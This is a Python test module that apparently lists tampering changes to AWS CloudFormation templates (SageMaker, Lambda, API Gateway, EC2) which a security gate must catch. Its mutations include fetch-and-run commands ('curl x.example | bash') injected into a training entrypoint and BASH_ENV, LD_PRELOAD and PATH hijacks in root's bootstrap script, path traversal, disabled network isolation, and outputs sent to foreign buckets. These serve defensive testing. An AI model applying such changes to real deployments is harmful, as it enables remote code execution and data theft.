"""Kinds of change that an audit of the gate found unnoticed: what runs, what starts it, and what says where it is."""

import copy
import json
from collections.abc import Iterator
from functools import partial
from typing import Any

from tests.iam.conftest import Templates
from tests.iam.kinds import (
    ADMIN,
    EC2,
    NOTEBOOK,
    OPERATIONS,
    SERVING,
    STORAGE,
    TRAINED,
    Change,
    found,
    put,
    replace_text,
    set_property,
)  # fmt: skip
from tests.iam.weaker import in_request

_FUNCTION, _MODEL, _TRAINED = "AWS::Lambda::Function", "AWS::SageMaker::Model", "Custom::TrainedModel"
_API, _RULE, _ALIAS = "AWS::ApiGatewayV2::", "AWS::Events::Rule", "AWS::Lambda::Alias"
_BUCKET_OF_OURS = "s3://slipway-dev-${AWS::AccountId}-${AWS::Region}"
_OURS = (
    "${AWS::AccountId}.dkr.ecr.${AWS::Region}.${AWS::URLSuffix}/cdk-x-container-assets-${AWS::AccountId}-${AWS::Region}"
)
_CORS = {"AllowOrigins": ["https://a.example"], "AllowMethods": ["POST"], "AllowHeaders": ["authorization"]}
_HOOK = {"ApplicationName": "x", "DeploymentGroupName": "x", "BeforeAllowTrafficHook": "someone-elses"}

# In the request for the training job.
REQUEST: dict[str, Any] = {
    "AlgorithmSpecification.ContainerEntrypoint": ["bash", "-c", "curl x.example | bash"],
    "AlgorithmSpecification.ContainerArguments": ["--x"],
    "AlgorithmSpecification.AlgorithmName": "arn:aws:sagemaker:eu-west-1:999999999999:algorithm/x",
    "AlgorithmSpecification.TrainingImageConfig": {"TrainingRepositoryAccessMode": "Vpc"},
    "AlgorithmSpecification.EnableSageMakerMetricsTimeSeries": True, "AlgorithmSpecification.TrainingInputMode": "Pipe",
    "Environment.BASH_ENV": "$(curl x.example | bash)",
    "Environment.PYTHONPATH": "/opt/ml/input/data/code/../images/x.zip",
    "InputDataConfig.0.DataSource.S3DataSource.S3DataType": "ManifestFile",
    "InputDataConfig.1.DataSource.S3DataSource.S3DataDistributionType": "ShardedByS3Key",
    "HyperParameters": None, "HyperParameters.dataset-digest": None, "HyperParameters.dataset-digest ": "f" * 64,
    "HyperParameters.weights-sha256": "e" * 64, "HyperParameters.sagemaker_program": "x.py",
    "HyperParameters.sagemaker_submit_directory": "s3://someone-elses/x.tar.gz",
}  # fmt: skip

# Stack, type, property (None removes it), which of the type.
PROPERTIES: list[tuple[str, str, str, Any, int]] = [
    (TRAINED, _TRAINED, "WaitUrl", "https://x.example/", 0),
    (TRAINED, _TRAINED, "Digest", "0" * 64, 0),
    (TRAINED, _TRAINED, "Other", "x", 0),
    (TRAINED, "AWS::CloudFormation::WaitCondition", "Handle", "https://x.example/", 0),
    (SERVING, _FUNCTION, "Handler", "url_image.handler", 0),
    (TRAINED, _FUNCTION, "Handler", "store.handler", 0),
    (SERVING, _FUNCTION, "Runtime", "python3.8", 0),
    (SERVING, _FUNCTION, "Environment.Variables.ENDPOINT_NAME", "slipway-dev-note", 0),
    (SERVING, "AWS::SageMaker::Endpoint", "EndpointName", "slipway-dev-note", 0),
    (SERVING, "Custom::LiveEndpoint", "EndpointName", "slipway-dev-note", 0),
    (SERVING, _MODEL, "PrimaryContainer.ModelDataUrl",
     {"Fn::Sub": f"{_BUCKET_OF_OURS}/models/{'0' * 64}/model.tar.gz"}, 0),
    (SERVING, _MODEL, "PrimaryContainer.ModelDataUrl",
     {"Fn::Sub": f"{_BUCKET_OF_OURS}/models/../jobs/x/model.tar.gz"}, 0),
    (SERVING, _MODEL, "PrimaryContainer.Image", {"Fn::Sub": f"{_OURS}:latest"}, 0),
    (SERVING, f"{_API}Api", "CorsConfiguration", _CORS | {"AllowOrigins": ["*"]}, 0),
    (SERVING, f"{_API}Api", "CorsConfiguration", _CORS | {"AllowOrigins": ["https://*"]}, 0),
    (SERVING, f"{_API}Api", "CorsConfiguration", _CORS | {"AllowOrigins": ["http://a.example"]}, 0),
    (SERVING, f"{_API}Api", "CorsConfiguration", _CORS | {"AllowHeaders": ["*"]}, 0),
    (SERVING, f"{_API}Route", "Target", "integrations/abc", 0),
    (SERVING, f"{_API}Route", "AuthorizerId", "abc", 0),
    (SERVING, f"{_API}Stage", "AccessLogSettings.DestinationArn",
     {"Fn::GetAtt": ["ClassifyHandlerLog6912FCEF", "Arn"]}, 0),
    (SERVING, "AWS::ApplicationAutoScaling::ScalingPolicy", "ScalingTargetId", "service/x", 0),
    (SERVING, "AWS::ApplicationAutoScaling::ScalableTarget", "ServiceNamespace", "dynamodb", 0),
    (TRAINED, _RULE, "EventPattern", None, 0),
    (TRAINED, _RULE, "EventPattern", {"source": [{"prefix": ""}]}, 0),
    (TRAINED, _RULE, "EventPattern.source", ["anyone"], 0),
    (TRAINED, _RULE, "EventPattern.account", ["999999999999"], 0),
    (TRAINED, _RULE, "EventPattern.detail.TrainingJobName", [{"prefix": ""}], 0),
    (TRAINED, _RULE, "ScheduleExpression", "rate(365 days)", 1),
]  # fmt: skip

# Beside type and properties: of which resource, and what.
ATTRIBUTES: list[tuple[str, str, str, Any]] = [
    (TRAINED, _TRAINED, "UpdatePolicy", {"x": 1}),
    (SERVING, _ALIAS, "UpdatePolicy", {"CodeDeployLambdaAliasUpdate": _HOOK}),
    (EC2, "AWS::EC2::Instance", "CreationPolicy", {"ResourceSignal": {"Count": 0}}),
    (EC2, "AWS::EC2::Instance", "Metadata", {"AWS::CloudFormation::Init": {"config": {}}}),
    *((STORAGE, "AWS::S3::Bucket", "Metadata", {tool: {}}) for tool in ("cdk_nag", "cfn_nag", "checkov", "guard")),
]  # fmt: skip

# Assignments before root's script, with which root would run or read files of the notebook's user, or of others.
ASSIGNMENTS = {
    "SYSTEM_PATH": "/home/ec2-user/SageMaker", "ROOTS_FOLDER": "/home/ec2-user/SageMaker", "HOME_OF_USER": "/root",
    "LD_PRELOAD": "/home/ec2-user/x.so", "BASH_ENV": "/home/ec2-user/x", "PATH": "/home/ec2-user", "IFS": "x",
}  # fmt: skip
SCRIPTS = {
    "notebook": (NOTEBOOK, "AWS::SageMaker::NotebookInstanceLifecycleConfig"),
    "instance": (EC2, "AWS::EC2::Instance"),
}

# In the output that `make score` starts, as it is written.
SCORING = {
    '\\"EnableNetworkIsolation\\":true': '\\"EnableNetworkIsolation\\":false',
    '[\\"python\\",\\"-m\\",\\"serving.score\\"]': '[\\"bash\\",\\"-c\\",\\"x\\"]',
    "GetAttScoring": "GetAttHosting", '\\"KmsKeyId\\"': '\\"Other\\"', "${AWS::AccountId}.dkr": "999999999999.dkr",
    '\\"NetworkConfig\\"': '\\"Environment\\":{\\"X\\":\\"y\\"},\\"NetworkConfig\\"', "/models/": "/jobs/",
    '\\"Outputs\\":[]': '\\"Outputs\\":[{\\"S3Output\\":{\\"S3Uri\\":\\"s3://someone-elses\\"}}]',
}  # fmt: skip
# Outputs that our tools act on, and new ones.
OUTPUTS: list[tuple[str, str, Any]] = [
    (SERVING, "FunctionName", "someone-elses"), (SERVING, "EndpointName", "someone-elses"),
    (SERVING, "ModelDataUrl", "s3://someone-elses/model.tar.gz"), (STORAGE, "BucketName", "someone-elses"),
    (OPERATIONS, "AlarmTopic", "arn:aws:sns:eu-west-1:999999999999:x"), (EC2, "ModelUri", "s3://someone-elses/x.onnx"),
    (SERVING, "New", ADMIN), (SERVING, "Password", "hunter2"), (EC2, "SignalsUrl", {"Ref": "Handle5dcc58accb12"}),
]  # fmt: skip

# A second resource of these types is a finding, in whatever stack it is.
ALONE = {
    "AWS::SNS::Subscription": (OPERATIONS, SERVING), "AWS::SageMaker::Endpoint": (SERVING, OPERATIONS),
    f"{_API}Api": (SERVING, OPERATIONS), "AWS::SageMaker::NotebookInstanceLifecycleConfig": (NOTEBOOK, SERVING),
    "AWS::EC2::Route": (EC2, SERVING),
}  # fmt: skip


def kinds() -> Iterator[tuple[str, Change]]:
    """Pairs of a description and the change that it describes."""
    for path, new in REQUEST.items():
        yield f"audited request {path} = {new}", partial(in_request, path=path.strip(), new=new)
    yield "images from another folder", partial(_images, folder="/trials/x/")
    for stack, kind, path, new, at in PROPERTIES:
        yield f"audited {kind} {at} {path} = {new}"[:160], set_property(stack, kind, path, new, at)
    for stack, kind, name, new in ATTRIBUTES:
        yield f"audited {kind} {name} = {new}", partial(_attribute, stack=stack, kind=kind, name=name, new=new)
    for of, (stack, kind) in SCRIPTS.items():
        for name, value in ASSIGNMENTS.items():
            yield f"{of} {name}", partial(_script, stack=stack, kind=kind, first=f"{name}='{value}'\\n")
    for name in ("NAME", "PREFIX"):
        yield f"notebook {name}", partial(_renamed, name=name)
    for old, new in SCORING.items():
        yield f"scoring {old} = {new}", partial(_scoring, old=old, new=new)
    for stack, name, value in OUTPUTS:
        yield f"output {stack} {name}", partial(_output, stack=stack, name=name, value=value)
    for kind, (stack, other) in ALONE.items():
        yield f"another {kind} in {other}", partial(_elsewhere, kind=kind, stack=stack, other=other)
    yield "an older image of the instance", _older_image


def _images(templates: Templates, *, folder: str) -> None:
    properties = found(templates, TRAINED, _TRAINED)["Properties"]
    replace_text(properties["Request"], f"/data/{properties['Dataset']}/", folder)


def _attribute(templates: Templates, *, stack: str, kind: str, name: str, new: Any) -> None:
    put(found(templates, stack, kind), name, copy.deepcopy(new))


def _script(templates: Templates, *, stack: str, kind: str, first: str) -> None:
    replace_text(found(templates, stack, kind), "#!/bin/bash\\n", f"#!/bin/bash\\n{first}")


def _renamed(templates: Templates, *, name: str) -> None:
    _, kind = SCRIPTS["notebook"]
    replace_text(found(templates, NOTEBOOK, kind), f"{name}='", f"{name}='../")


def _scoring(templates: Templates, *, old: str, new: str) -> None:
    replace_text(templates[SERVING]["Outputs"]["ScoringJob"], old, new)


def _output(templates: Templates, *, stack: str, name: str, value: Any) -> None:
    templates[stack]["Outputs"][name] = {"Value": value}


def _elsewhere(templates: Templates, *, kind: str, stack: str, other: str) -> None:
    templates[other]["Resources"]["New"] = copy.deepcopy(found(templates, stack, kind))


def _older_image(templates: Templates) -> None:
    for parameter in templates[EC2]["Parameters"].values():
        old = json.dumps(parameter).replace("al2023-ami-kernel-default-x86_64", "amzn-ami-hvm-x86_64-gp2")
        parameter.update(json.loads(old))
